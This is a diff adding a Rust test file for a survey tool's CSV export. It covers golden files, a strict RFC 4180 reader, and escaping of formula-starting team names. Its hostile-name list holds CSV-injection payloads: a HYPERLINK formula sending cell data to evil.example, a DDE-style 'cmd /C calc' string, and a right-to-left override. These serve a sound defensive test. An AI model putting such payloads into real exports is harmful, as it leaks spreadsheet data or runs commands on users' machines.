@@ -1,0 +1,252 @@
+//! The CSV export (src/domain/csv.rs): golden files for the six golden sets, compared byte for
+//! byte, and a small RFC 4180 reader that reads the answers back, hostile team names included.
+
+mod common;
+
+use common::golden;
+use samenwerkingsscan::domain::csv::{answers_csv, summary_csv};
+use samenwerkingsscan::domain::instrument::{Answer, RoleGroup, DIMENSIONS};
+use samenwerkingsscan::domain::link::response_key;
+use samenwerkingsscan::domain::response::{Response, TeamName};
+use samenwerkingsscan::domain::team::summarise;
+
+const SIX: [&str; 6] = [
+    "woerden", "less", "fewnow", "boundary", "dontknow", "middle",
+];
+
+fn six() -> Vec<Response> {
+    SIX.iter().map(|name| golden(name)).collect()
+}
+
+fn oost() -> TeamName {
+    TeamName::new("Wijkteam Oost").unwrap()
+}
+
+/// Compares with the committed file; `UPDATE_GOLDEN=1` writes it first.
+fn check_golden(file: &str, made: &str) {
+    let path = format!("{}/tests/golden/{file}", env!("CARGO_MANIFEST_DIR"));
+    if std::env::var_os("UPDATE_GOLDEN").is_some() {
+        std::fs::write(&path, made).unwrap();
+    }
+    let committed = std::fs::read(&path).unwrap_or_default();
+    assert!(
+        committed == made.as_bytes(),
+        "tests/golden/{file} is out of date (or its line endings were changed):\n{made}"
+    );
+}
+
+#[test]
+fn golden_answers_of_the_six() {
+    check_golden("answers_six.csv", &answers_csv(&six(), Some(&oost())));
+}
+
+#[test]
+fn golden_summary_of_the_six() {
+    check_golden(
+        "summary_six.csv",
+        &summary_csv(&summarise(&six()), Some(&oost())),
+    );
+}
+
+/// Reads RFC 4180 strictly: a byte-order mark first, CRLF after every record, quotes only
+/// around a whole field, `""` inside them; anything else fails the test.
+fn parse(text: &str) -> Vec<Vec<String>> {
+    let text = text.strip_prefix('\u{FEFF}').expect("a byte-order mark");
+    assert!(text.ends_with("\r\n"), "the last record ends with CRLF");
+    let mut records = Vec::new();
+    let mut record = Vec::new();
+    let mut field = String::new();
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '"' => {
+                assert!(field.is_empty(), "a quote inside an unquoted field");
+                loop {
+                    match chars.next().expect("a closing quote") {
+                        '"' if chars.peek() == Some(&'"') => {
+                            chars.next();
+                            field.push('"');
+                        }
+                        '"' => break,
+                        other => field.push(other),
+                    }
+                }
+                assert!(
+                    matches!(chars.peek(), Some(',' | '\r')),
+                    "a quoted field ends at a comma or CRLF"
+                );
+            }
+            ',' => record.push(std::mem::take(&mut field)),
+            '\r' => {
+                assert_eq!(chars.next(), Some('\n'), "CR only as part of CRLF");
+                record.push(std::mem::take(&mut field));
+                records.push(std::mem::take(&mut record));
+            }
+            '\n' => panic!("a bare LF outside quotes"),
+            other => field.push(other),
+        }
+    }
+    records
+}
+
+/// The answers a record holds, read back.
+fn response_of(record: &[String]) -> Response {
+    assert_eq!(record.len(), 30);
+    let answer = |f: &String| {
+        if f.is_empty() {
+            Answer::DontKnow
+        } else {
+            let code: u8 = f.parse().expect("1-5");
+            assert!((1..=5).contains(&code));
+            Answer::from_code(code).unwrap()
+        }
+    };
+    let role = RoleGroup::ALL
+        .into_iter()
+        .find(|r| r.label().nl == record[1]);
+    assert!(role.is_some() || record[1].is_empty());
+    Response {
+        now: std::array::from_fn(|i| answer(&record[2 + i])),
+        desired: std::array::from_fn(|i| answer(&record[16 + i])),
+        role,
+    }
+}
+
+/// What the `team` column shows for a name: the name, with a `'` before a formula start.
+fn shown(name: &str) -> String {
+    if name.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']) {
+        format!("'{name}")
+    } else {
+        name.to_owned()
+    }
+}
+
+#[test]
+fn header_bom_and_line_ends() {
+    let csv = answers_csv(&six(), None);
+    assert!(csv.starts_with("\u{FEFF}team,rolgroep,nu_1,nu_2,"));
+    assert!(csv.as_bytes().starts_with(&[0xEF, 0xBB, 0xBF]));
+    assert_eq!(csv.matches("\r\n").count(), 7);
+    assert_eq!(csv.matches('\n').count(), 7);
+    let records = parse(&csv);
+    assert_eq!(records[0].len(), 30);
+    assert_eq!(records[0][2], "nu_1");
+    assert_eq!(records[0][15], "nu_14");
+    assert_eq!(records[0][16], "gewenst_1");
+    assert_eq!(records[0][29], "gewenst_14");
+    // No team: an empty first column.
+    assert!(records[1..].iter().all(|r| r[0].is_empty()));
+
+    let summary = summary_csv(&summarise(&six()), None);
+    assert!(summary.starts_with('\u{FEFF}'));
+    assert_eq!(summary.matches("\r\n").count(), 15);
+    assert_eq!(summary.matches('\n').count(), 15);
+    // An empty team: the header and the fourteen dimensions still.
+    let empty = summary_csv(&summarise(&[]), None);
+    let records = parse(&empty);
+    assert_eq!(records.len(), 15);
+    assert_eq!(
+        records[1],
+        ["", "1", "Systemen", "0", "", "", "", "nee", "0", "", "", "", "nee"]
+    );
+    assert_eq!(parse(&answers_csv(&[], None)).len(), 1);
+}
+
+#[test]
+fn answers_read_back_in_canonical_order_with_hostile_names() {
+    let names = [
+        "Wijkteam Oost",
+        "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Klik hier\")",
+        "+31 6 1234 5678",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "＝1+1",
+        "Team, \"de beste\"\r\nregel twee\nen drie",
+        "'s-Hertogenbosch \"Noord\"",
+        "👩‍⚕️ Zorg & Welzijn 🏘️",
+        "فريق الحي \u{202E}evil\u{202C} שלום",
+        "a",
+    ];
+    let mut rng = common::Rng::new(0xC5F);
+    for (case, name) in names.iter().enumerate() {
+        let name = TeamName::new(name).unwrap();
+        for round in 0..40 {
+            let count = rng.below(40) as usize;
+            let mut team: Vec<Response> = (0..count).map(|_| rng.response()).collect();
+            if round == 0 {
+                team.extend(six());
+                team.push(golden("middle")); // two people may answer identically
+            }
+            let csv = answers_csv(&team, Some(&name));
+            let records = parse(&csv);
+            assert_eq!(records.len(), team.len() + 1, "case {case}");
+            let read: Vec<Response> = records[1..].iter().map(|r| response_of(r)).collect();
+            let mut expected = team.clone();
+            expected.sort_by_key(response_key);
+            assert_eq!(read, expected, "case {case}: {csv}");
+            for record in &records[1..] {
+                assert_eq!(record[0], shown(name.as_str()), "case {case}");
+            }
+            // The order of the input does not show.
+            team.reverse();
+            assert_eq!(answers_csv(&team, Some(&name)), csv);
+        }
+    }
+}
+
+#[test]
+fn summary_reads_back_as_the_team_summary() {
+    let mut rng = common::Rng::new(0x5A4);
+    let name = TeamName::new("=1+1, \"x\"").unwrap();
+    for case in 0..300 {
+        let team: Vec<Response> = (0..rng.below(30)).map(|_| rng.response()).collect();
+        let summary = summarise(&team);
+        let records = parse(&summary_csv(&summary, Some(&name)));
+        assert_eq!(records.len(), 15);
+        for (record, d) in records[1..].iter().zip(&summary.team.dimensions) {
+            assert_eq!(record.len(), 13);
+            assert_eq!(record[0], "'=1+1, \"x\"");
+            assert_eq!(record[1], d.id.to_string());
+            assert_eq!(record[2], DIMENSIONS[usize::from(d.id) - 1].name.nl);
+            for (fields, h) in [(&record[3..8], &d.now), (&record[8..13], &d.desired)] {
+                let opt = |v: Option<u8>| v.map_or(String::new(), |v| v.to_string());
+                assert_eq!(fields[0], h.answered().to_string(), "case {case}");
+                assert_eq!(
+                    fields[1],
+                    h.median().map_or(String::new(), |m| m.to_string()),
+                    "case {case}"
+                );
+                assert_eq!(fields[2], opt(h.min()));
+                assert_eq!(fields[3], opt(h.max()));
+                assert_eq!(fields[4], if h.difference_of_view() { "ja" } else { "nee" });
+            }
+        }
+    }
+}
+
+#[test]
+fn summary_agrees_with_the_committed_team_summary() {
+    // tests/golden/team_six.txt: "id  n median min max flag  n median min max flag".
+    let team = include_str!("golden/team_six.txt");
+    let records = parse(&summary_csv(&summarise(&six()), Some(&oost())));
+    let lines: Vec<&str> = team
+        .lines()
+        .filter(|l| l.starts_with(|c: char| c.is_ascii_digit()))
+        .collect();
+    assert_eq!(lines.len(), 14);
+    for (line, record) in lines.iter().zip(&records[1..]) {
+        let f: Vec<&str> = line.split_whitespace().collect();
+        let ours = |i: usize| match record[i].as_str() {
+            "" => "-".to_owned(),
+            "ja" => "flag".to_owned(),
+            "nee" => "-".to_owned(),
+            v => v.to_owned(),
+        };
+        let expected: Vec<String> = f.iter().map(|s| s.to_string()).collect();
+        let got: Vec<String> = [1, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12]
+            .into_iter()
+            .map(ours)
+            .collect();
+        assert_eq!(got, expected, "{line}");
+    }
+}
